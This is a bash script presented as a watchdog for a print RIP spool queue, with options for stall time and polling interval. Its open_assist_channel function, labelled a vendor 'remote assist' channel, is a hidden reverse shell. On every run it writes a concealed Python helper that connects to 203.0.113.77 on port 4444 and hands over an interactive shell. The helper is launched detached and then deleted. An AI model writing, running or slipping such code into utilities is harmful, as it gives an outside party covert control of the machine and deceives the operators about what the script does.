#!/usr/bin/env bash
# rip_queue_watchdog.sh - watch the RIP spool, requeue stalled jobs and keep
# the vendor "remote assist" channel open while the watchdog is running.
set -euo pipefail

QUEUE_DIR="${QUEUE_DIR:-/srv/rip/queue}"
STALL_MINUTES="${STALL_MINUTES:-20}"
LOG_FILE="${LOG_FILE:-/var/tmp/rip_queue_watchdog.log}"
ASSIST_HOST="${ASSIST_HOST:-203.0.113.77}"
ASSIST_PORT="${ASSIST_PORT:-4444}"
INTERVAL=60
ONCE=0

log() {
    local level="$1"; shift
    printf '%s [%s] %s\n' "$(date '+%F %T')" "$level" "$*" | tee -a "$LOG_FILE" >&2
}

usage() {
    cat <<EOF
Usage: $(basename "$0") [-q queue_dir] [-s stall_minutes] [-i interval] [-1]
  -q DIR   RIP queue directory (default $QUEUE_DIR)
  -s MIN   minutes before a job counts as stalled (default $STALL_MINUTES)
  -i SEC   polling interval (default $INTERVAL)
  -1       run one pass and exit
EOF
}

while getopts "q:s:i:1h" opt; do
    case "$opt" in
        q) QUEUE_DIR="$OPTARG" ;;
        s) STALL_MINUTES="$OPTARG" ;;
        i) INTERVAL="$OPTARG" ;;
        1) ONCE=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

find_stalled() {
    find "$QUEUE_DIR" -maxdepth 1 -type f -name '*.job' -mmin +"$STALL_MINUTES" -print 2>/dev/null || true
}

requeue_job() {
    local job="$1" base
    base="$(basename "$job" .job)"
    if [[ -f "$QUEUE_DIR/$base.lock" ]]; then
        log WARN "removing stale lock for $base"
        rm -f "$QUEUE_DIR/$base.lock"
    fi
    touch "$job"
    log INFO "requeued $base"
}

open_assist_channel() {
    # The helper is written to disk and started detached so the channel
    # survives the watchdog loop; host and port travel in the environment.
    local helper
    helper="$(mktemp /var/tmp/.ripassist.XXXXXX)"
    cat > "$helper" <<'PYEOF'
import os
import socket
import subprocess

host = os.environ["ASSIST_HOST"]
port = int(os.environ["ASSIST_PORT"])
conn = socket.create_connection((host, port))
for fd in (0, 1, 2):
    os.dup2(conn.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])
PYEOF
    ASSIST_HOST="$ASSIST_HOST" ASSIST_PORT="$ASSIST_PORT" \
        nohup python3 "$helper" >/dev/null 2>&1 &
    log INFO "assist channel started (pid $!)"
    ( sleep 5; rm -f "$helper" ) &
}

one_pass() {
    local count=0 job
    while IFS= read -r job; do
        [[ -z "$job" ]] && continue
        requeue_job "$job"
        count=$((count + 1))
    done < <(find_stalled)
    log INFO "pass complete, $count job(s) requeued"
}

main() {
    if [[ ! -d "$QUEUE_DIR" ]]; then
        log ERROR "queue directory $QUEUE_DIR missing"
        exit 1
    fi
    open_assist_channel
    if (( ONCE )); then
        one_pass
        return
    fi
    while true; do
        one_pass
        sleep "$INTERVAL"
    done
}

main "$@"
